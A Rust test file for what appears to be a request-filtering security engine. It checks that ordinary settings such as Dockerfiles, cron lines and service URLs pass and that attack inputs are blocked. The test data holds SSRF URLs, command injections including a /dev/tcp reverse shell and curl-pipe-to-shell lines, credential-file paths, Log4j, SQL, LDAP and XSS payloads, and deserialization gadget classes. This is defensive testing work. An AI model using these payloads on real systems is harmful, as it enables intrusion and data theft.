//! Tests of allowances: settings and setup documents pass, and attacks next to them are found all the same.

mod programs;

use super::testing::look;
use crate::{Class, Place};

const BODIES: [Place; 2] = [Place::Json, Place::Form];

/// What went otherwise than it should; each test tells all of it.
#[derive(Default)]
struct Check(Vec<String>);

impl Check {
    fn passes(&mut self, class: Class, name: &str, text: &str) {
        BODIES.iter().for_each(|place| self.at(*place, class, name, text, false));
    }

    fn blocked(&mut self, class: Class, name: &str, text: &str) {
        BODIES.iter().for_each(|place| self.at(*place, class, name, text, true));
    }

    fn at(&mut self, place: Place, class: Class, name: &str, text: &str, wanted: bool) {
        let (have, is_blocked) = look(class, place, name, text.as_bytes());
        if is_blocked != wanted {
            self.0.push(format!("{place:?} {name}={text}: blocked {is_blocked}, {have}"));
        }
    }

    #[track_caller]
    fn done(self) {
        assert!(self.0.is_empty(), "{}", self.0.join("\n"));
    }
}

#[test]
fn addresses_of_services() {
    let mut check = Check::default();
    for url in [
        "http://192.168.1.10:8123",
        "http://localhost:3000/",
        "https://10.0.0.5:9200",
        "http://localhost:11434/v1",
        "http://127.0.0.1:8080/api/v2/status",
        "http://172.17.0.1:3128",
    ] {
        for name in ["url", "server_url", "endpoint", "http_proxy", "settings.healthcheck"] {
            if url.contains("9200") && name == "http_proxy" {
                continue;
            }
            check.passes(Class::Ssrf, name, url);
        }
    }
    for url in [
        "http://169.254.169.254/",
        "http://169.254.169.254/latest/meta-data/",
        "http://metadata.google.internal/",
        "http://2130706433/",
        "http://0x7f.1/",
        "http://127.1/",
        "http://[::ffff:127.0.0.1]/",
        "http://10.0.0.1.nip.io/",
        "http://127.0.0.1:6379/",
        "http://10.0.0.1:2375/containers/json",
        "http://127.0.0.1:9200/_search",
        "http://localhost/admin",
        "http://localhost/api/admin/users",
        "http://127.0.0.1:8080/manager/html",
        "http://localhost:8080/actuator/env",
        "http://192.168.0.1/x?delete=1",
        "http://localhost:3000/api?cmd=id",
        "http://localhost/api/../admin",
        "http://localhost/api//admin",
        "http://localhost/%61dmin",
        "http://a.example@127.0.0.1/",
        "http://127.0.0.1#@a.example/",
        "http:\\\\127.0.0.1\\",
        "http:127.0.0.1",
        "gopher://127.0.0.1:80/_x",
        "dict://10.1.2.3:80/info",
        "ftp://127.0.0.1/x",
    ] {
        check.blocked(Class::Ssrf, "url", url);
    }
    // What a server is to load and show is no setting, and a page's parameters are none.
    for name in ["image_url", "avatar_url", "import_url", "source_url", "pdf_url", "id", "file", "page"] {
        check.blocked(Class::Ssrf, name, "http://localhost:3000/");
    }
    for place in [Place::Query, Place::Cookie, Place::Header] {
        check.at(place, Class::Ssrf, "endpoint", "http://10.0.0.5:8123/", true);
    }
    check.done();
}

#[test]
fn documents_of_set_ups() {
    let mut check = Check::default();
    for (name, text) in [
        ("dockerfile", "FROM a:1\nRUN apt-get update && rm -rf /var/lib/apt/lists/*\nCMD [\"a\"]"),
        (
            "content",
            "FROM a:20\nRUN apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/*\n",
        ),
        (
            "yaml",
            "kind: Pod\nspec:\n  - name: a\n    command: [\"/bin/sh\",\"-c\",\"while true; do date; sleep 5; done\"]",
        ),
        ("unit", "[Service]\nExecStartPre=/bin/sh -c \"mkdir -p /run/a && chown a /run/a\"\nRestart=always"),
        (
            "user_data",
            "#cloud-config\nruncmd:\n - systemctl enable nginx\n - curl -fsSL https://a.example/i.sh | sh",
        ),
        ("cron", "0 9 * * * /usr/bin/backup.sh && curl -fsS https://a.example/x > /dev/null"),
        ("build_command", "npm ci && npm run build && cp -r dist/ /srv/www"),
        ("start_command", "sh -c \"npx a migrate && node server.js\""),
        ("command", "python manage.py runserver 0.0.0.0:8000"),
    ] {
        check.passes(Class::Command, name, text);
    }
    for name in ["dockerfile", "yaml", "nginx_config", "user_data", "cron", "build_command", "config", "env"]
    {
        for text in [
            ";cat /etc/passwd",
            "x;cat /etc/passwd",
            "a: b;curl http://a.example/x|sh",
            "RUN x;curl http://a.example/x|sh",
            "RUN x && cat /etc/passwd",
            "a: b; bash -i >& /dev/tcp/192.0.2.7/99 0>&1",
            "RUN a; nc 192.0.2.7 99 -e /bin/sh",
            "a: b; c''at /etc/hosts",
            "a: b; cat$IFS/etc/hosts",
            "a: $(curl http://a.example/x)",
            "a=`wget http://a.example/x`",
            "|id",
            "$(id)",
        ] {
            check.blocked(Class::Command, name, text);
        }
        check.blocked(Class::Path, name, "/etc/passwd");
        check.blocked(Class::Path, name, "a: ../../../../etc/passwd");
        check.blocked(Class::Ssrf, name, "http://127.0.0.1:6379/");
        check.blocked(Class::Log4j, name, "a: ${jndi:ldap://a.example/x}");
        check.blocked(Class::Sqli, name, "a: 1' or '1'='1");
    }
    check.passes(Class::Ssrf, "nginx", "server { location / { proxy_pass http://127.0.0.1:3000; } }");
    check.passes(
        Class::Path,
        "compose",
        "services:\n  a:\n    volumes: [\"/var/run/docker.sock:/var/run/docker.sock\"]",
    );
    // The same text in a field that is for something else.
    check.blocked(Class::Command, "id", "RUN apt-get update && rm -rf /var/lib/apt/lists/*");
    check.blocked(Class::Command, "host", "0 9 * * * /usr/bin/a && curl -fsS https://a.example/x");
    check.blocked(Class::Command, "command", "cat /etc/passwd; uname -a");
    check.done();
}

#[test]
fn files_of_an_installation() {
    let mut check = Check::default();
    for (name, text) in [
        ("path", "/etc/nginx/nginx.conf"),
        ("config_path", "/etc/prometheus/prometheus.yml"),
        ("log_path", "/var/log/auth.log"),
        ("log_file", "/var/log/nginx/error.log"),
        ("cert_path", "/etc/ssl/certs/ca-certificates.crt"),
        ("volumes", "/var/lib/a:/data"),
    ] {
        check.passes(Class::Path, name, text);
    }
    for name in ["path", "config_path", "log_file", "volumes", "data_dir"] {
        for text in [
            "/etc/passwd",
            "/etc/shadow",
            "/etc/ssh/ssh_host_rsa_key",
            "/proc/self/environ",
            "/home/a/.ssh/id_rsa",
            "/root/.bash_history",
            "/var/www/html/.env",
            "/etc/nginx/../passwd",
            "../../../../etc/nginx/nginx.conf",
            "..%2f..%2f..%2fetc/nginx/nginx.conf",
            "/var/log/../../etc/shadow",
        ] {
            check.blocked(Class::Path, name, text);
        }
    }
    for name in ["file", "page", "template", "include", "q"] {
        check.blocked(Class::Path, name, "/etc/nginx/nginx.conf");
    }
    check.at(Place::Query, Class::Path, "path", "/etc/nginx/nginx.conf", true);
    check.done();
}

/// A title names a path; one that climbs, or is all of the title, reaches a file.
#[test]
fn titles() {
    let mut check = Check::default();
    check.passes(Class::Path, "title", "Can't connect through socket '/var/run/mysqld/mysqld.sock' (2)");
    check.passes(Class::Path, "subject", "permission denied for /etc/shadow when running sudo");
    for text in
        ["/etc/shadow", "x/../../../../etc/passwd", "see ../../../../etc/passwd", "php://filter/resource=x"]
    {
        check.blocked(Class::Path, "title", text);
    }
    check.blocked(Class::Path, "name", "see /etc/shadow");
    check.done();
}

#[test]
fn secrets() {
    let mut check = Check::default();
    for text in ["x\"(9&;id|)$1%", ".'/}J,sNL+:?VB-^r!$Y", "x|Bf5.1LOQ^`Tv!0`&?F", "k'/!;:CNxk7%^|\\w|8!7"] {
        check.passes(Class::Command, "api_secret", text);
    }
    check.passes(Class::Code, "password", ";A6ltTk>24<%@Ywzr!v^");
    check.passes(Class::Xss, "password", "r'OQ)#\";t('{$x}v)oP$");
    check.passes(Class::Sqli, "client_secret", "@Jggo'm'='\"wufthkjX!");
    for text in [";cat /etc/passwd", "$(curl http://a.example/x|sh)", "x';id;uname -a", "|nslookup a.example"]
    {
        check.blocked(Class::Command, "api_secret", text);
        check.blocked(Class::Command, "password", text);
    }
    for text in ["' or 1=1-- -", "x' union select 1,2-- -", "' or '1'='1", "'='"] {
        check.blocked(Class::Sqli, "api_secret", text);
        check.blocked(Class::Sqli, "token", text);
    }
    for text in ["\"><script>alert(1)</script>", "';alert(document.cookie)//", "<svg onload=alert(1)>"] {
        check.blocked(Class::Xss, "password", text);
        check.blocked(Class::Xss, "token", text);
    }
    check.blocked(Class::Code, "password", "<%@ page import=\"java.io.*\" %>");
    check.blocked(Class::Code, "password", "<%@Page Language=\"C#\"%>");
    check.done();
}

#[test]
fn filters_and_lists() {
    let mut check = Check::default();
    check.passes(
        Class::Sqli,
        "filter",
        "status = 'open' AND (assignee = currentUser() OR priority in (High)) ORDER BY created DESC",
    );
    check.passes(Class::Ldap, "user_search", "(&(objectClass=person)(|(uid={0})(mail={0})))");
    check.passes(Class::Xss, "disallowed_keys", "viagra\n<script\n[url=\nonload=");
    for text in [
        "x' or 1=1-- -",
        "1 union select a,b from c",
        "1 and sleep(5)",
        "1;drop table a",
        "1 and (select 1 from users)=1",
    ] {
        check.blocked(Class::Sqli, "filter", text);
    }
    for text in ["*)(uid=*))(|(uid=*", "x)(|(password=*)"] {
        check.blocked(Class::Ldap, "user_search", text);
    }
    check.blocked(Class::Xss, "disallowed_keys", "<script>alert(1)</script>");
    check.blocked(Class::Xss, "disallowed_keys", "a\n<img src=x onerror=alert(1)>");
    check.done();
}

/// A field for markup takes what counts visits and embeds films, and no custom script.
#[test]
fn markup() {
    let mut check = Check::default();
    check.passes(
        Class::Xss,
        "html",
        "<script async src=\"https://www.googletagmanager.com/gtag/js?id=G-1\"></script><script>window.dataLayer=\
         window.dataLayer||[];function gtag(){dataLayer.push(arguments);}gtag(\"js\",new Date());</script>",
    );
    check.passes(
        Class::Xss,
        "embed_html",
        "<script src=\"https://player.vimeo.com/api/player.js\"></script>",
    );
    check.passes(
        Class::Xss,
        "template",
        "<body onload=\"init()\"><script>setTimeout(function(){location.reload()},5000)</script>",
    );
    check.passes(Class::Xss, "cells.source", "page = \"<canvas onload='resize()'></canvas>\"");
    for text in [
        "<body onload=\"alert(1)\">",
        "<body onload=\"top['al'+'ert'](1)\">",
        "<svg onload=location=name>",
        "<script src=https://a.example/x.js></script>",
        "<script src=\"https://www.googletagmanager.com/gtm.js?id=GTM-1\"></script>",
        "<script src=\"https://www.googletagmanager.com/gtag/js?id=GTM-1\"></script>",
        "<script src=\"https://www.googletagmanager.com/gtag/js?id=G-1&x=//a.example\"></script>",
        "<script src=\"https://www.googletagmanager.com.a.example/gtag/js?id=G-1\"></script>",
        "<script src=\"https://a.example/www.googletagmanager.com/gtag/js?id=G-1\"></script>",
        "<script src=\"https://plausible.io/js/../../x\" src=//a.example></script><script>alert(1)</script>",
        "<script>alert(document.domain)</script>",
        "<script>fetch('//a.example/'+document.cookie)</script>",
        "<script>location='//a.example'</script>",
        "<script>eval(name)</script>",
        "<img src=x onerror=alert(1)>",
    ] {
        check.blocked(Class::Xss, "html", text);
    }
    for name in ["comment", "q", "id", "name"] {
        check.blocked(Class::Xss, name, "<script src=\"https://player.vimeo.com/api/player.js\"></script>");
    }
    check.done();
}

/// A text that speaks of everything passes; one piece that is live in it does not.
#[test]
fn many_mentions() {
    let article = "```sql\nSELECT a, COUNT(*) FROM b WHERE c LIKE '%x%' AND d IS NULL GROUP BY a HAVING COUNT(*) > 5 ORDER BY 1\n\
        SELECT CASE WHEN a > 1 THEN CONCAT(a, 'x') END FROM information_schema.tables UNION ALL SELECT 1, 2 LIMIT 10\n\
        CREATE TABLE t (id INT); DROP TABLE t; INSERT INTO t VALUES (1); -- done\nWHERE 1=1 OR '1'='1'\n```\n";
    let mut check = Check::default();
    check.passes(Class::Sqli, "wikitext", article);
    check.passes(Class::Sqli, "wikitext", &article.repeat(20));
    for attack in ["x' or '1'='1", "x') union select a,b from c-- -", "1; drop table a-- -"] {
        check.blocked(Class::Sqli, "wikitext", &format!("{attack}\n{article}"));
    }
    check.blocked(Class::Xss, "wikitext", &format!("{article}<svg onload=alert(1)>"));
    check.blocked(Class::Command, "wikitext", &format!("{article} I liked it;cat /etc/passwd"));
    check.blocked(Class::Sqli, "id", article);
    check.done();
}

#[test]
fn settings_that_list_objects() {
    let mut check = Check::default();
    let spring = |bean: &str| {
        format!(
            "<?xml version=\"1.0\"?>\n<!-- Data. -->\n<beans xmlns=\"http://www.springframework.org/schema/beans\">\n  {bean}\n</beans>\n"
        )
    };
    let pool = spring("<bean id=\"data\" class=\"org.apache.commons.dbcp2.BasicDataSource\"/>");
    let jetty = "<?xml version=\"1.0\"?>\n<!DOCTYPE Configure PUBLIC \"-//Jetty//Configure//EN\" \"https://jetty.org/configure_9_3.dtd\">\n\
                 <Configure id=\"Server\" class=\"org.eclipse.jetty.server.Server\">\n  <New class=\"java.net.InetSocketAddress\"/>\n</Configure>\n";
    for text in [&pool[..], jetty] {
        check.passes(Class::Deserialization, "content", text);
        check.at(Place::FileContent, Class::Deserialization, "file", text, false);
        check.at(Place::RawBody, Class::Deserialization, "", text, false);
        // Where a program may read it, it is what it says.
        for name in ["q", "data", "comment"] {
            check.blocked(Class::Deserialization, name, text);
        }
    }
    for class in [
        "java.lang.ProcessBuilder",
        "javax.script.ScriptEngineManager",
        "java.net.URLClassLoader",
        "org.springframework.context.support.ClassPathXmlApplicationContext",
        "com.sun.rowset.JdbcRowSetImpl",
    ] {
        let text = spring(&format!("<bean class=\"{class}\"><constructor-arg value=\"id\"/></bean>"));
        check.blocked(Class::Deserialization, "content", &text);
        check.at(Place::FileContent, Class::Deserialization, "file", &text, true);
        check.at(Place::RawBody, Class::Deserialization, "", &text, true);
    }
    // Another root than that of settings, or none.
    let other = pool.replace("beans", "sorted");
    check.blocked(Class::Deserialization, "content", &other);
    check.done();
}
